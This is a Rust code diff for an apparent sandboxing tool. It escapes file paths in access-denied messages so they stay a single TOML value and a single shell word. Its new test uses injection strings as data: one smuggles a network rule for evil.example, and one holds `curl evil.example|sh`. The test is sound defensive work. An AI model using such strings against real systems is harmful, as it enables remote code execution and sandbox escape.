@@ -8,6 +8,8 @@ use std::fmt;
 use std::path::{Component, Path, PathBuf};
 use std::time::Instant;
 
+use portcullis_core::escape::{escape_hidden, plain_shell_word, toml_string};
+
 use super::credentials::is_credential;
 use super::process_cell::{PreparedSource, ProcessCell};
 use super::system_mounts;
@@ -70,7 +72,11 @@ pub enum MissingAccess {
 impl fmt::Display for MissingAccess {
     /// Writes what was refused, the line of the configuration that allows it, and the switch of `portcullis wrap`.
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        let path = |path: &Path| portcullis_core::escape::escape_hidden(&path.to_string_lossy()).into_owned();
+        // What a source wrote must stay one value of the line, and one word of the command.
+        let forms = |path: &Path| {
+            let path = path.to_string_lossy();
+            (escape_hidden(&path).into_owned(), toml_string(&path), plain_shell_word(&path))
+        };
         match self {
             Self::Host(host) => {
                 write!(
@@ -79,17 +85,17 @@ impl fmt::Display for MissingAccess {
                 )
             }
             Self::Read(file) => {
-                let file = path(file);
+                let (file, value, word) = forms(file);
                 write!(
                     f,
-                    "its cell does not have {file}; to open it, add `read = [\"{file}\"]` to its `cell`, or the switch `--read {file}`"
+                    "its cell does not have {file}; to open it, add `read = [{value}]` to its `cell`, or the switch `--read {word}`"
                 )
             }
             Self::Write(file) => {
-                let file = path(file);
+                let (file, value, word) = forms(file);
                 write!(
                     f,
-                    "its cell does not let it write {file}; to allow it, add `write = [\"{file}\"]` to its `cell`, or the switch `--write {file}`"
+                    "its cell does not let it write {file}; to allow it, add `write = [{value}]` to its `cell`, or the switch `--write {word}`"
                 )
             }
             Self::Variable(name) => {
@@ -250,6 +256,7 @@ pub fn variables_in(text: &str) -> Vec<String> {
 
 #[cfg(test)]
 mod tests {
+    #![allow(clippy::unwrap_used, reason = "tests")]
     use super::*;
 
     #[test]
@@ -257,6 +264,21 @@ mod tests {
         let text = "Error: BRAVE_API_KEY environment variable is required (code ERR_MODULE_NOT_FOUND, ENOENT, HTTP)\n\
                     set BRAVE_API_KEY or TAVILY_API_KEY=…, not SIGTERM_X";
         assert_eq!(variables_in(text), ["BRAVE_API_KEY", "TAVILY_API_KEY"]);
+    }
+
+    #[test]
+    fn a_path_stays_one_value_and_one_word_of_what_is_recommended() {
+        for path in ["/data/notes\"], network = [\"evil.example:443", "/data/a;curl evil.example|sh;#", "/data/a b\\"] {
+            for missing in [MissingAccess::Read(path.into()), MissingAccess::Write(path.into())] {
+                let text = missing.to_string();
+                let (_, rest) = text.split_once("add `").unwrap();
+                let (line, rest) = rest.split_once("` to its `cell`, or the switch `").unwrap();
+                let (_, value) = line.split_once(" = ").unwrap();
+                assert_eq!(value, format!("[{}]", toml_string(path)), "{text}");
+                let (_, word) = rest.trim_end_matches('`').split_once(' ').unwrap();
+                assert_eq!(word, format!("'{path}'"), "{text}");
+            }
+        }
     }
 
     #[test]
